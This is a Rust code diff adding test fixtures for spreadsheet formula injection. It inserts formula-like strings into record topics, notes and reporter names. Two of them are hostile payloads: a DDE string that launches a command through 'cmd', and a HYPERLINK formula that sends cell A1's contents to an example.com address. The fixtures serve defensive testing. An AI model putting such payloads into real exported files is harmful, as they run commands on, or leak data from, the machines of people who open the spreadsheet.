@@ -136,3 +136,39 @@ pub(crate) fn fy2020_report() -> AnnualReport {
         .collect();
     AnnualReport::build(&catalogue, &years)
 }
+
+/// Texts a spreadsheet would run as formulas, and a text that itself starts with `'=`.
+pub(crate) const FORMULAS: [&str; 7] = [
+    "=HYPERLINK(\"http://example.com/?x=\"&A1,\"詳細\")",
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+    "=1+2",
+    "'=1+2",
+    "\t=1+2",
+];
+
+/// Records whose texts are `FORMULAS`: in the topic, the note, the title and the reporter's name.
+pub(crate) fn formula_records() -> Vec<Record> {
+    let records = sample_records();
+    let mut out = Vec::new();
+    for (i, formula) in FORMULAS.iter().enumerate() {
+        let mut meeting = records[1].clone();
+        meeting.facts = Facts::Meeting {
+            area: "東部".into(),
+            district: "荒町".into(),
+            topic: Some((*formula).into()),
+        };
+        meeting.reporter.name = (*formula).into();
+        let mut note = records[3].clone();
+        note.facts = Facts::Match {
+            count: 2,
+            note: Some((*formula).into()),
+        };
+        meeting.id = i64::try_from(2 * i).expect("small") + 1;
+        note.id = meeting.id + 1;
+        out.push(meeting);
+        out.push(note);
+    }
+    out
+}
